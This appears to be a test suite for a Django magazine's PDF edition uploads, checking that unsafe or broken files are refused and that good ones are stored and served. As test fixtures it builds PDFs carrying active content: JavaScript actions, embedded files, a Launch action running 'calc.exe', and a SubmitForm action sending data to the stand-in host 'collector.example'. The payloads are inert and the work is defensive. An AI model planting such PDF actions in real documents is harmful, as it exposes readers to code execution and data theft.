"""Print editions (PDF): the bad-file corpus is refused with its reason and leaves nothing stored;
a good edition is stored under a generated name and served as a download naming its issue."""

import io
import os
import re
from pathlib import Path

import pikepdf
import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape

from articles.models import Issue
from articles.pdfs import EditionField, check_pdf

pytestmark = pytest.mark.django_db

GENERATED_NAME = re.compile(r"editions/\d{4}/[0-9a-f]{32}\.pdf")


# The corpus, made in code with pikepdf so that each file's oddity is visible here.


def pdf_bytes(change=None, **save_options):
    """A one-page PDF, changed by `change(pdf)` before it is written."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(420, 595))
    if change is not None:
        change(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, **save_options)
    return buffer.getvalue()


def javascript_on_opening(pdf):
    pdf.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('hello')")
    )


def javascript_in_the_names_tree(pdf):
    action = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("this.print()"))
    )
    pdf.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("on-open"), action]))
    )


def annotation(pdf, **entries):
    """Put an annotation with these entries on the first page."""
    annot = pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=pikepdf.Array([0, 0, 50, 50]), **entries)
    )
    pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annot]))


def javascript_on_a_link(pdf):
    annotation(
        pdf,
        Subtype=pikepdf.Name.Link,
        AA=pikepdf.Dictionary(
            E=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.beep(0)"))
        ),
    )


def attached_file(pdf):
    pdf.attachments["notes.txt"] = pikepdf.AttachedFileSpec(pdf, b"hidden", mime_type="text/plain")


def file_attachment_annotation(pdf):
    annotation(pdf, Subtype=pikepdf.Name.FileAttachment, Contents=pikepdf.String("a file"))


def launch_action(pdf):
    annotation(
        pdf,
        Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
    )


def submit_form_action(pdf):
    button = pdf.make_indirect(
        pikepdf.Dictionary(
            FT=pikepdf.Name.Btn,
            T=pikepdf.String("send"),
            A=pikepdf.Dictionary(
                S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://collector.example/")
            ),
        )
    )
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([button]))


def good_pdf():
    return pdf_bytes()


WEB_PAGE = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"

BAD_EDITIONS = {
    "javascript on opening": (lambda: pdf_bytes(javascript_on_opening), "contains JavaScript"),
    "javascript in the names tree": (
        lambda: pdf_bytes(javascript_in_the_names_tree),
        "contains JavaScript",
    ),
    "javascript on a link": (lambda: pdf_bytes(javascript_on_a_link), "contains JavaScript"),
    "embedded file": (lambda: pdf_bytes(attached_file), "carries other files inside it"),
    "file attachment annotation": (
        lambda: pdf_bytes(file_attachment_annotation),
        "carries other files inside it",
    ),
    "launch action": (lambda: pdf_bytes(launch_action), "has a Launch action"),
    "submit form action": (lambda: pdf_bytes(submit_form_action), "has a SubmitForm action"),
    "encrypted with a password": (
        lambda: pdf_bytes(encryption=pikepdf.Encryption(owner="owner", user="reader")),
        "This PDF is encrypted",
    ),
    "encrypted without a password to open": (
        lambda: pdf_bytes(encryption=pikepdf.Encryption(owner="owner", user="")),
        "This PDF is encrypted",
    ),
    "truncated": (lambda: good_pdf()[: len(good_pdf()) // 2], "damaged or incomplete"),
    "its end cut off": (lambda: good_pdf()[:-12], "damaged or incomplete"),
    "html named .pdf": (lambda: WEB_PAGE, "This is a web page (HTML), not a PDF"),
    "random bytes": (lambda: os.urandom(4096), "This file is not a PDF"),
    "empty": (lambda: b"", "This file is empty (0 bytes)."),
}


def stored_files():
    return [path for path in Path(settings.MEDIA_ROOT).rglob("*") if path.is_file()]


def issue_form(pdf, **overrides):
    """The admin's issue form, filled in, with the print edition as the upload."""
    form = {
        "volume": "12",
        "number": "3",
        "title": "Spring 2026",
        "slug": "vol-12-no-3",
        "date": "02/03/2026",
        "published": "on",
        "cover": "",
        "introduction": "",
        "pdf": pdf,
        "contents-TOTAL_FORMS": "0",
        "contents-INITIAL_FORMS": "0",
        "contents-MIN_NUM_FORMS": "0",
        "contents-MAX_NUM_FORMS": "1000",
    }
    form.update(overrides)
    return form


@pytest.mark.parametrize("case", BAD_EDITIONS)
def test_a_bad_edition_is_refused_in_the_admin_with_its_reason_and_nothing_stored(
    editor_client, case
):
    make, says = BAD_EDITIONS[case]
    upload = SimpleUploadedFile("spring.pdf", make(), content_type="application/pdf")
    response = editor_client.post("/admin/articles/issue/add/", issue_form(upload))
    assert response.status_code == 200
    assert escape(says) in response.content.decode()
    assert Issue.objects.count() == 0
    assert stored_files() == []


@pytest.mark.parametrize(
    ("change", "says"),
    [
        (javascript_on_opening, "contains JavaScript"),
        (attached_file, "carries other files inside it"),
        (launch_action, "has a Launch action"),
        (submit_form_action, "has a SubmitForm action"),
    ],
)
def test_each_kind_of_active_content_is_refused_with_a_code_saying_so(change, says):
    with pytest.raises(ValidationError) as caught:
        check_pdf(SimpleUploadedFile("issue.pdf", pdf_bytes(change)))
    assert caught.value.error_list[0].code == "active_content"
    assert says in caught.value.messages[0]


def test_a_pdf_doing_several_things_is_refused_with_each_reason():
    def everything(pdf):
        javascript_on_opening(pdf)
        launch_action(pdf)

    with pytest.raises(ValidationError) as caught:
        check_pdf(SimpleUploadedFile("issue.pdf", pdf_bytes(everything)))
    assert len(caught.value.messages) == 2
    assert "JavaScript" in caught.value.messages[0]
    assert "Launch" in caught.value.messages[1]


class ReadIsForbidden:
    """An upload of 60 MB, as its size says, that fails the test if anything reads it."""

    name = "huge.pdf"
    size = 60 * 1024 * 1024

    def read(self, *args):
        raise AssertionError("The file was read.")

    def seek(self, *args):
        raise AssertionError("The file was read.")

    def chunks(self, *args):
        raise AssertionError("The file was read.")

    def open(self, *args):
        raise AssertionError("The file was read.")


def test_a_60_mb_edition_is_refused_from_its_size_without_being_read():
    with pytest.raises(ValidationError) as caught:
        EditionField().clean(ReadIsForbidden())
    assert caught.value.code == "too_large"
    assert "This file is 60 MB; the most we accept is 50 MB." in caught.value.messages[0]
    assert stored_files() == []


def test_the_largest_edition_follows_the_setting(settings):
    settings.MAGAZINE_PDF_MAX_BYTES = 1024 * 1024
    upload = SimpleUploadedFile("issue.pdf", good_pdf())
    upload.size = 2 * 1024 * 1024
    with pytest.raises(ValidationError) as caught:
        check_pdf(upload)
    assert "the most we accept is 1 MB" in caught.value.messages[0]


def test_an_edition_larger_than_its_stated_size_is_refused(settings):
    data = good_pdf()
    settings.MAGAZINE_PDF_MAX_BYTES = len(data) - 1
    upload = SimpleUploadedFile("issue.pdf", data)
    # The size a client declares is its own word: the file itself is measured.
    upload.size = 100
    with pytest.raises(ValidationError) as caught:
        check_pdf(upload)
    assert caught.value.code == "too_large"


def test_the_default_largest_edition_is_50_mb():
    assert settings.MAGAZINE_PDF_MAX_BYTES == 50 * 1024 * 1024


def test_a_pdf_under_another_name_is_refused_with_a_request_to_rename():
    with pytest.raises(ValidationError) as caught:
        check_pdf(SimpleUploadedFile("issue.exe", good_pdf()))
    assert caught.value.code == "bad_extension"
    assert "The file name ends in “.exe”" in caught.value.messages[0]


def test_a_pdf_whose_parser_had_to_mend_it_is_refused():
    # Removing bytes from the middle leaves every offset after them wrong: qpdf rebuilds the
    # cross-reference table and says so, and the file is refused as damaged.
    data = pdf_bytes(lambda pdf: pdf.add_blank_page())
    middle = len(data) // 3
    mended = data[:middle] + data[middle + 40 :]
    with pytest.raises(ValidationError) as caught:
        check_pdf(SimpleUploadedFile("issue.pdf", mended))
    assert caught.value.code == "damaged"


def test_a_good_edition_is_accepted_as_uploaded():
    data = good_pdf()
    upload = check_pdf(SimpleUploadedFile("Spring issue FINAL v3.pdf", data))
    assert upload.read() == data


def test_the_edition_box_asks_the_browser_for_pdfs():
    assert EditionField().widget.attrs["accept"] == "application/pdf,.pdf"


def test_a_good_edition_is_stored_under_a_generated_name_with_its_size(editor_client):
    data = good_pdf()
    upload = SimpleUploadedFile("Spring FINAL.pdf", data, content_type="application/pdf")
    response = editor_client.post("/admin/articles/issue/add/", issue_form(upload))
    assert response.status_code == 302
    issue = Issue.objects.get()
    assert GENERATED_NAME.fullmatch(issue.pdf.name)
    assert issue.pdf_size == len(data)
    [stored] = stored_files()
    assert stored.read_bytes() == data
    assert "FINAL" not in stored.name


def test_a_good_edition_is_served_as_a_pdf_download_named_for_its_issue(editor_client, client):
    data = good_pdf()
    upload = SimpleUploadedFile("Spring FINAL.pdf", data, content_type="application/pdf")
    editor_client.post("/admin/articles/issue/add/", issue_form(upload))
    response = client.get("/issues/vol-12-no-3/pdf/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == (
        'attachment; filename="the-quad-review-vol-12-no-3.pdf"'
    )
    assert b"".join(response.streaming_content) == data


def test_clearing_the_edition_sets_its_size_to_nothing(editor_client):
    upload = SimpleUploadedFile("spring.pdf", good_pdf(), content_type="application/pdf")
    editor_client.post("/admin/articles/issue/add/", issue_form(upload))
    issue = Issue.objects.get()
    response = editor_client.post(
        f"/admin/articles/issue/{issue.pk}/change/", issue_form("", **{"pdf-clear": "on"})
    )
    assert response.status_code == 302
    issue.refresh_from_db()
    assert not issue.pdf and issue.pdf_size == 0
